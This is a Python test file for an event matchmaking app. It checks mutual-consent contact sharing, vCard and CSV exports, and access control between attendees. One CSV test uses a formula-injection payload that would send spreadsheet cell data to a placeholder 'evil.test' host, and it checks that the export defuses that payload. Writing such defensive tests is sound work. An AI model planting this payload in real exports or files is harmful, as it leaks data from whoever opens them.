"""Connections: both asked to follow up, so each gets the other's contact card, page, vCard and CSV;
one side's wish alone shows nothing."""

from __future__ import annotations

import csv
import io
from datetime import UTC, datetime

import vobject
from flask import Flask
from sqlalchemy.orm import Session

from matchmaker.db.models import Attendee, Event, Meeting, MeetingFeedback, MeetingSource
from tests.integration.attendee_support import attendee_with_link, csrf_client, event_with_interests


def _past_event(session: Session) -> Event:
    event = event_with_interests(session)
    for slot in event.slots:
        slot.start, slot.end = slot.start.replace(year=2020), slot.end.replace(year=2020)
    return event


def _met(
    session: Session, event: Event, a: Attendee, b: Attendee, *, a_wants: bool, b_wants: bool, slot: int = 0
) -> Meeting:
    meeting = Meeting.between(
        a.id,
        b.id,
        event_id=event.id,
        slot_id=event.slots[slot].id,
        table_id=event.tables[0].id,
        source=MeetingSource.AUTO,
    )
    session.add(meeting)
    session.flush()
    session.add_all(
        [
            MeetingFeedback(
                meeting_id=meeting.id, attendee_id=a.id, took_place=True, rating=4, wants_follow_up=a_wants
            ),
            MeetingFeedback(
                meeting_id=meeting.id, attendee_id=b.id, took_place=True, rating=5, wants_follow_up=b_wants
            ),
        ]
    )
    session.flush()
    return meeting


def test_both_asking_to_follow_up_shows_each_the_others_card(app: Flask, db_session: Session) -> None:
    event = _past_event(db_session)
    anna, anna_page = attendee_with_link(
        db_session,
        event,
        name="Anna Kowalska",
        company="EcoCup",
        job_title="Head of sales",
        email="anna@ecocup.test",
    )
    boris, boris_page = attendee_with_link(
        db_session,
        event,
        name="Boris Petrov",
        company="Roastery",
        job_title="Buyer",
        email="boris@roastery.test",
    )
    _met(db_session, event, anna, boris, a_wants=True, b_wants=True)
    db_session.commit()
    client = csrf_client(app)

    anna_sees = client.get(f"{anna_page}/connections?lang=en").get_data(as_text=True)
    boris_sees = client.get(f"{boris_page}/connections?lang=en").get_data(as_text=True)

    assert "Boris Petrov" in anna_sees and "boris@roastery.test" in anna_sees and "Buyer" in anna_sees
    assert "Anna Kowalska" in boris_sees and "anna@ecocup.test" in boris_sees


def test_one_side_asking_alone_shares_nothing(app: Flask, db_session: Session) -> None:
    event = _past_event(db_session)
    anna, anna_page = attendee_with_link(db_session, event, name="Anna", email="anna@ecocup.test")
    boris, _boris_page = attendee_with_link(db_session, event, name="Boris", email="boris@roastery.test")
    _met(db_session, event, anna, boris, a_wants=True, b_wants=False)
    db_session.commit()
    client = csrf_client(app)

    anna_sees = client.get(f"{anna_page}/connections?lang=en").get_data(as_text=True)
    card = client.get(f"{anna_page}/connections/{boris.id}.vcf")
    everything = client.get(f"{anna_page}/connections.vcf").get_data(as_text=True)
    sheet = client.get(f"{anna_page}/connections.csv").get_data(as_text=True)

    assert "boris@roastery.test" not in anna_sees
    assert "No connections yet" in anna_sees
    assert card.status_code == 404
    assert everything == ""
    assert "boris" not in sheet.lower()


def test_contact_cards_parse_as_vcards_with_name_company_title_and_email(
    app: Flask, db_session: Session
) -> None:
    event = _past_event(db_session)
    anna, anna_page = attendee_with_link(db_session, event, name="Anna")
    boris, _ = attendee_with_link(
        db_session,
        event,
        name="Борис Петров; «Кофе»",
        company="Roastery, Sp. z o.o.",
        job_title="Head of purchasing",
        email="boris@roastery.test",
    )
    carla, _ = attendee_with_link(db_session, event, name="Carla", company="", job_title="", email=None)
    _met(db_session, event, anna, boris, a_wants=True, b_wants=True, slot=0)
    _met(db_session, event, anna, carla, a_wants=True, b_wants=True, slot=1)
    db_session.commit()
    client = csrf_client(app)

    one = client.get(f"{anna_page}/connections/{boris.id}.vcf?lang=en")
    every = client.get(f"{anna_page}/connections.vcf")

    assert one.mimetype == "text/vcard"
    assert "attachment" in one.headers["Content-Disposition"]
    assert one.headers["Cache-Control"] == "no-store"
    [card] = list(vobject.readComponents(one.get_data(as_text=True)))
    assert card.version.value == "3.0"
    assert card.fn.value == "Борис Петров; «Кофе»"
    assert card.org.value == ["Roastery, Sp. z o.o."]
    assert card.title.value == "Head of purchasing"
    assert card.email.value == "boris@roastery.test"
    assert "We met at" in card.note.value
    assert one.get_data().count(b"\r\n") > 5
    cards = list(vobject.readComponents(every.get_data(as_text=True)))
    assert [c.fn.value for c in cards] == ["Борис Петров; «Кофе»", "Carla"]
    assert not hasattr(cards[1], "email")
    assert cards[0].uid.value != cards[1].uid.value
    # The same contact keeps its UID, so importing the cards again updates rather than duplicates.
    again = list(vobject.readComponents(client.get(f"{anna_page}/connections.vcf").get_data(as_text=True)))
    assert [c.uid.value for c in again] == [c.uid.value for c in cards]


def test_csv_export_is_safe_to_open_in_a_spreadsheet(app: Flask, db_session: Session) -> None:
    event = _past_event(db_session)
    anna, anna_page = attendee_with_link(db_session, event, name="Anna")
    mallory, _ = attendee_with_link(
        db_session,
        event,
        name='=HYPERLINK("http://evil.test?"&A1,"x")',
        company="+48 22 123",
        job_title="@SUM(1+1)",
        email="m@evil.test",
    )
    _met(db_session, event, anna, mallory, a_wants=True, b_wants=True)
    db_session.commit()

    response = csrf_client(app).get(f"{anna_page}/connections.csv?lang=en")

    assert response.mimetype == "text/csv"
    text = response.get_data().decode("utf-8")
    assert text.startswith("\ufeff")  # Excel reads UTF-8 (Polish and Russian names) only with a BOM
    header, row = list(csv.reader(io.StringIO(text.lstrip("\ufeff"))))
    assert header[:4] == ["Name", "Company", "Job title", "E-mail"]
    assert row[0] == '\'=HYPERLINK("http://evil.test?"&A1,"x")'
    assert row[1] == "'+48 22 123"
    assert row[2] == "'@SUM(1+1)"
    assert row[3] == "m@evil.test"
    assert all(not cell.startswith(("=", "+", "-", "@")) for cell in row)


def test_connections_of_another_attendee_cannot_be_read_through_ones_own_link(
    app: Flask, db_session: Session
) -> None:
    event = _past_event(db_session)
    _anna, anna_page = attendee_with_link(db_session, event, name="Anna")
    boris, _ = attendee_with_link(db_session, event, name="Boris")
    carla, _ = attendee_with_link(db_session, event, name="Carla", email="carla@cups.test")
    _met(db_session, event, boris, carla, a_wants=True, b_wants=True)
    db_session.commit()

    response = csrf_client(app).get(f"{anna_page}/connections/{carla.id}.vcf")

    assert response.status_code == 404
    assert b"carla@cups.test" not in response.data


def test_connections_page_needs_a_working_link(app: Flask, db_session: Session) -> None:
    response = csrf_client(app).get("/me/not-a-token/connections.csv")

    assert response.status_code == 404
    assert response.mimetype == "text/html"


def test_feedback_figures_show_the_organiser_answers_ratings_and_connections(
    app: Flask, db_session: Session
) -> None:
    from matchmaker.services.feedback_figures import feedback_figures

    event = _past_event(db_session)
    anna, _ = attendee_with_link(db_session, event, name="Anna")
    boris, _ = attendee_with_link(db_session, event, name="Boris")
    carla, _ = attendee_with_link(db_session, event, name="Carla")
    _met(db_session, event, anna, boris, a_wants=True, b_wants=True, slot=0)
    lonely = Meeting.between(
        anna.id,
        carla.id,
        event_id=event.id,
        slot_id=event.slots[1].id,
        table_id=event.tables[0].id,
        source=MeetingSource.AUTO,
    )
    db_session.add(lonely)
    db_session.flush()
    db_session.add(
        MeetingFeedback(meeting_id=lonely.id, attendee_id=carla.id, took_place=False, wants_follow_up=True)
    )
    db_session.commit()

    figures = feedback_figures(db_session, event, now=datetime(2021, 1, 1, tzinfo=UTC))

    assert figures.meetings_started == 2
    assert figures.answers == 3 and figures.possible_answers == 4
    assert figures.meetings_answered == 2
    assert (figures.took_place, figures.did_not_take_place) == (2, 1)
    assert figures.ratings == {1: 0, 2: 0, 3: 0, 4: 1, 5: 1}
    assert figures.average_rating == 4.5
    assert figures.follow_up_wishes == 3
    assert figures.connections == 1
